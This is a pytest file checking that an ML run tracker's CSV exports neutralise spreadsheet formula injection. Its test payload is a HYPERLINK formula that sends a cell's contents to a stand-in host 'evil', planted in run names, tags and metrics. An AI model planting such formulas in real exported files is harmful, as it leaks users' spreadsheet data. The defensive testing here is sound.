"""Text that a spreadsheet would run: harmless in every CSV, and as it was once the rule of the docs is applied."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hpcml.formulas import inert
from tests.cli.command_line import Hpcml
from tests.store.building import Journal, make_run_dir

RUN = re.compile(r"[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")
NUMBER = re.compile(r"[+-]?[0-9.]+(e[+-]?[0-9]+)?|[+-]?(inf|nan)", re.IGNORECASE)
LINK = '=HYPERLINK("http://evil?"&A1,"click")'
DOCS = Path(__file__).parents[2] / "docs" / "exchange.md"


def as_recorded(cell: str) -> str:
    """Apply the line of Python that docs/exchange.md gives."""
    (line,) = (line for line in DOCS.read_text(encoding="utf-8").splitlines() if line.startswith("cell = re.sub"))
    words: dict[str, str] = {"cell": cell}
    exec(line, {"re": re}, words)  # noqa: S102 - our own page
    return words["cell"]


@pytest.mark.parametrize(
    "text", [LINK, "+1+1", "-1-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "-lr", "+-1", "-", "'=1"]
)
def test_a_formula_becomes_text(text: str) -> None:
    assert inert(text) == f"'{text}"
    assert as_recorded(inert(text)) == text


@pytest.mark.parametrize(
    "text", ["-0.5", "-5", "+3e8", "-1e-07", "-inf", "a=b", "1-1", "", "'", "'a", "x@y", "-.5", "-2."]
)
def test_numbers_and_other_text_stay_as_they_are(text: str) -> None:
    assert inert(text) == text
    assert as_recorded(text) == text


@given(st.text(alphabet="'=+-@\t\r\n\uff1da1.e", max_size=8))
def test_nothing_that_runs_is_left_and_everything_comes_back(text: str) -> None:
    cell = inert(text)

    assert not RUN.match(cell) or NUMBER.fullmatch(cell)
    assert as_recorded(cell) == text


def test_every_csv_of_a_run_that_is_all_formulas_is_inert(hpcml_environ: dict[str, str], tmp_path: Path) -> None:
    user = Hpcml(environ=hpcml_environ, cwd=tmp_path)
    for at, letter in enumerate("ab"):
        run_dir = make_run_dir(user.home / "runs", f"20260528-202640-{letter * 8}", name=LINK, tags=[LINK], seed=at)
        agent, rank0 = Journal(run_dir, writer="agent"), Journal(run_dir)
        agent.event("attempt_started")
        agent.event("facts", gpu_model=LINK, offset=-0.5, **{LINK: LINK})
        for step in range(3):
            rank0.metrics(step, step, **{LINK: -1.5 - step, "val_accuracy": -0.25})
        rank0.event("@SUM(A1)", text=LINK)
        agent.event("attempt_ended", 10.0, state="FAILED", exit_code=1, wall_s=10.0, reason=LINK)
    assert user("tag", "aaaaaaaa", "--note", LINK).returncode == 0
    assert user("export", "--to", "csv", "-o", "out").returncode == 0
    written = {path.name: path.read_bytes().decode() for path in (tmp_path / "out").glob("*.csv")}
    assert sorted(written) == ["events.csv", "metrics.csv", "points.csv", "runs.csv"]
    for words in (
        ["runs"],
        ["runs", "--columns", "uid,name,tag,note,reason"],
        ["runs", "--best", "--by", "name", "--state", "FAILED"],
        ["show", "aaaaaaaa", "--curve", LINK],
        ["diff", "aaaaaaaa", "bbbbbbbb", "--all"],
        ["query", f"SELECT '{LINK}' AS '{LINK}', -0.5 AS n, '-7' AS m"],
    ):
        done = user(*words, "--csv")
        assert done.returncode == 0, (words, done.stderr)
        written[" ".join(words)] = done.stdout

    for name, text in written.items():
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert cells
        assert not [cell for cell in cells if RUN.match(cell) and not NUMBER.fullmatch(cell)], name
    (row, _) = csv.DictReader(io.StringIO(written["runs.csv"], newline=""))
    assert (row["facts.offset"], row["metrics.val_accuracy"], as_recorded(row["name"])) == ("-0.5", "-0.25", LINK)
    assert {key for key in row if as_recorded(key) == f"facts.{LINK}"}
    points = [row["value"] for row in csv.DictReader(io.StringIO(written["points.csv"], newline=""))]
    assert {"-1.5", "-2.5", "-3.5"} <= set(points)
